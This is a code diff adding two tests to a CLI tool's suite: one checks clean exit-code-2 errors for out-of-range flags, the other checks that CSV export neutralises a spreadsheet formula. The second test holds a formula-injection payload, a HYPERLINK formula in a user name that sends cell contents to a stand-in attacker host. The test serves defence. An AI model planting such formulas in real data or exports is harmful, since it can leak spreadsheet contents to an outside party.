@@ -273,3 +273,36 @@ def test_the_daemon_prunes_at_start(world: World) -> None:
     assert code == 0, stderr
     events = [json.loads(line) for line in stderr.splitlines() if '"history.pruned"' in line]
     assert [(event["operations"], event["runs"]) for event in events] == [(3, 1)]
+
+
+def test_out_of_range_flags_exit_2_naming_the_flag_without_a_traceback(world: World) -> None:
+    for flag, value, message in [
+        (
+            "--since",
+            "10000000d",
+            "argument --since: '10000000d' reaches back before 1970-01-01: give a duration",
+        ),
+        (
+            "--since",
+            "0001-01-01T00:00+01:00",
+            "argument --since: '0001-01-01T00:00+01:00' reaches back before",
+        ),
+        ("--limit", "99999999999999999999", "argument --limit: '99999999999999999999' is above the maximum"),
+    ]:
+        refused = world.run("history", flag, value)
+        assert refused.code == 2, (flag, value, refused.stderr)
+        assert message in refused.stderr
+        assert "Traceback" not in refused.stderr
+        assert refused.stdout == ""
+
+
+def test_csv_neutralises_a_upn_a_spreadsheet_would_run(world: World) -> None:
+    upn = '=HYPERLINK("https://evil.example/?"&A1,"Click")@contoso.com'
+    mallory = world.graph.add_user(upn=upn, business_phones=["+1 415 555 0107"])
+    world.graph.add_member(world.group, mallory)
+    assert world.run("sync").code == 0
+    result = world.run("history", "--format", "csv")
+    assert result.code == 0, result.stderr
+    [record] = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
+    assert (record["upn"], record["phone_number"]) == ("'" + upn, "+14155550107")
+    assert history(world)[0]["upn"] == upn  # the JSON is exact
